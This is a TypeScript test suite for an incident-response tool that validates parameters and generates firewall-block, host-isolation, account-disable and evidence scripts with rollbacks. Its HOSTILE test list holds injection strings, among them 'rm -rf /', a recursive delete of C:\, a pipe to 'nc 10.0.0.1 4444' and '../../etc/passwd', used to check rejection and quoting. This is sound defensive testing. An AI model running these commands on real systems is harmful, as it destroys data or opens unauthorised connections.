import { execFileSync } from 'node:child_process'
import { describe, expect, it } from 'vitest'
import { canonicalIp, checkActionParams, type ActionType } from '../contract'
import { buildArtifacts, lineDiff, psQuote, shQuote } from './artifacts'

const bash = (() => {
  try {
    execFileSync('bash', ['-c', 'true'])
    return true
  } catch {
    return false
  }
})()

const HOSTILE = [
  "ws-01'; rm -rf / #",
  'ws-01"; Remove-Item C:\\ -Recurse',
  'ws-01$(reboot)',
  'ws-01`reboot`',
  'ws-01 && shutdown',
  'ws-01\nreboot',
  'ws-01|nc 10.0.0.1 4444',
  '-rf',
  '../../etc/passwd',
  'ws-01’; Stop-Computer',
]

describe('action parameters', () => {
  it.each([
    ['203.0.113.7', '203.0.113.7'],
    [' 10.0.0.1 ', '10.0.0.1'],
    ['2001:DB8:0:0:0:0:0:7', '2001:db8::7'],
    ['2001:db8:0000:1:0:0:0:1', '2001:db8:0:1::1'],
    ['::', '::'],
    ['::1', '::1'],
    ['fe80::1:0:0:1', 'fe80::1:0:0:1'],
    ['::ffff:192.0.2.1', '::ffff:c000:201'],
    ['1:2:3:4:5:6:7:8', '1:2:3:4:5:6:7:8'],
  ])('takes %j as the canonical %j', (input, canonical) => {
    expect(canonicalIp(input.trim())).toBe(canonical)
    expect(checkActionParams('block_ip', { ip: input })).toEqual({
      ok: true,
      params: { ip: canonical, direction: 'both' },
    })
  })

  it.each([
    '010.0.0.1',
    '256.1.1.1',
    '10.0.0',
    '10.0.0.1/24',
    '1::2::3',
    '1:2:3:4:5:6:7:8:9',
    'example.org',
    '10.0.0.1; reboot',
    '',
  ])('refuses %j as an IP, saying how to write one', (ip) => {
    const checked = checkActionParams('block_ip', { ip })
    expect(checked.ok).toBe(false)
    if (!checked.ok) expect(checked.problems.ip).toMatch(/IPv4 or IPv6 address|required/)
  })

  it.each(HOSTILE)('refuses the host name %j before any script is written', (host) => {
    const checked = checkActionParams('isolate_host', { host, platform: 'linux', keep_ip: '10.0.0.5' })
    expect(checked.ok).toBe(false)
    if (!checked.ok) expect(checked.problems.host).toMatch(/host name is letters, digits and hyphens/)
    const user = checkActionParams('disable_user', { user: host, platform: 'windows' })
    expect(user.ok).toBe(false)
    if (!user.ok) expect(user.problems.user).toMatch(/user name is letters/)
  })

  it('names every bad field and refuses unknown ones', () => {
    const checked = checkActionParams('isolate_host', {
      host: 'a b',
      platform: 'mac',
      keep_ip: 'x',
      extra: 1,
    })
    expect(checked.ok).toBe(false)
    if (!checked.ok)
      expect(Object.keys(checked.problems).sort()).toEqual(['(params)', 'host', 'keep_ip', 'platform'])
  })

  it('quotes for the shell and PowerShell so that nothing inside is code', () => {
    for (const text of HOSTILE) {
      if (bash) expect(execFileSync('bash', ['-c', `printf %s ${shQuote(text)}`]).toString()).toBe(text)
      expect(
        psQuote(text)
          .slice(1, -1)
          .replace(/(['‘’‚‛])\1/g, ''),
      ).not.toMatch(/['‘’‚‛]/)
    }
  })
})

describe('action artifacts', () => {
  const params = <T extends ActionType>(type: T, raw: Record<string, unknown>) => {
    const checked = checkActionParams(type, raw)
    if (!checked.ok) throw new Error(JSON.stringify(checked.problems))
    return checked.params
  }

  it('blocks an IP with an nftables ruleset, iptables and netsh rules, each with its rollback, and a diff', () => {
    const built = buildArtifacts('block_ip', 'a1b2c3d4-id', params('block_ip', { ip: '203.0.113.7' }), {
      blocked: [{ ip: '198.51.100.1', direction: 'inbound' }],
    })
    expect(built.artifacts.map((a) => a.name)).toEqual([
      'block-203.0.113.7.nft',
      'rollback-203.0.113.7.nft',
      'block-203.0.113.7.iptables.sh',
      'rollback-203.0.113.7.iptables.sh',
      'block-203.0.113.7.netsh.cmd',
      'rollback-203.0.113.7.netsh.cmd',
    ])
    const [nft, rollback, ipt, iptBack, netsh] = built.artifacts
    expect(nft!.content).toContain('    ip saddr 203.0.113.7 drop')
    expect(nft!.content).toContain('    ip daddr 203.0.113.7 drop')
    expect(nft!.content).toContain('    ip saddr 198.51.100.1 drop')
    expect(rollback!.content).not.toContain('203.0.113.7 drop')
    expect(ipt!.content).toContain(
      "iptables -I INPUT -s '203.0.113.7' -j DROP -m comment --comment 'outpost-a1b2c3d4'",
    )
    expect(iptBack!.content).toContain("iptables -D INPUT -s '203.0.113.7' -j DROP")
    expect(netsh!.content).toContain(
      'netsh advfirewall firewall add rule name="Outpost block 203.0.113.7 in" dir=in action=block remoteip=203.0.113.7',
    )
    expect(built.diff!.split('\n').filter((l) => l.startsWith('+') && !l.startsWith('+++'))).toEqual([
      '+    ip saddr 203.0.113.7 drop',
      '+    ip daddr 203.0.113.7 drop',
    ])
    expect(built.diff).toContain('     ip saddr 198.51.100.1 drop')
    expect(built.warnings).toEqual([])
    for (const a of built.artifacts) expect(a.sha256).toMatch(/^[0-9a-f]{64}$/)
  })

  it('uses ip6tables and ip6 for IPv6, and warns when the IP is blocked already', () => {
    const built = buildArtifacts(
      'block_ip',
      'id',
      params('block_ip', { ip: '2001:db8::7', direction: 'inbound' }),
      {
        blocked: [{ ip: '2001:db8::7', direction: 'outbound' }],
      },
    )
    expect(built.artifacts[0]!.content).toContain('ip6 saddr 2001:db8::7 drop')
    expect(built.artifacts[0]!.name).toBe('block-2001-db8--7.nft')
    expect(built.artifacts[2]!.content).toContain("ip6tables -I INPUT -s '2001:db8::7'")
    expect(built.warnings[0]).toMatch(/already blocked/)
  })

  it.each([
    ['isolate_host', { host: 'ws-01.corp.local', platform: 'linux', keep_ip: '10.0.0.5' }],
    ['disable_user', { user: 'svc_backup', platform: 'linux' }],
    ['collect_evidence', { host: 'ws-01', platform: 'linux' }],
  ] as const)('writes %s bash scripts that parse', (type, raw) => {
    const built = buildArtifacts(type, 'id', params(type, raw), { blocked: [] })
    const scripts = built.artifacts.filter((a) => a.name.endsWith('.sh'))
    expect(scripts.length).toBeGreaterThan(0)
    if (bash) for (const s of scripts) execFileSync('bash', ['-n'], { input: s.content })
  })

  it('writes the Windows scripts with the names quoted', () => {
    const user = buildArtifacts(
      'disable_user',
      'id',
      params('disable_user', { user: 'j.doe', platform: 'windows' }),
      {
        blocked: [],
      },
    )
    expect(user.artifacts[0]!.content).toContain("$user = 'j.doe'\n")
    expect(user.artifacts[0]!.content).toContain('Disable-ADAccount -Identity $user')
    expect(user.artifacts[1]!.content).toContain('Enable-ADAccount -Identity $user')
    const isolate = buildArtifacts(
      'isolate_host',
      'id',
      params('isolate_host', { host: 'WS-01', platform: 'windows', keep_ip: '10.0.0.5' }),
      { blocked: [] },
    )
    expect(isolate.artifacts[0]!.content).toContain("-RemoteAddress '10.0.0.5' -Action Allow")
    expect(isolate.artifacts[0]!.content).toContain("$expected = 'WS-01'")
    const evidence = buildArtifacts(
      'collect_evidence',
      'id',
      params('collect_evidence', { host: 'ws-01', platform: 'windows' }),
      {
        blocked: [],
      },
    )
    expect(evidence.artifacts.map((a) => a.name)).toEqual([
      'evidence-checklist-ws-01.md',
      'collect-ws-01.ps1',
    ])
    expect(evidence.artifacts[0]!.content).toMatch(/- \[ \] Do not reboot/)
  })

  it('diffs line by line', () => {
    expect(lineDiff('a\nb', 'a\nc', 'x')).toBe('--- x (now)\n+++ x (after this action)\n-b\n a\n+c')
  })
})
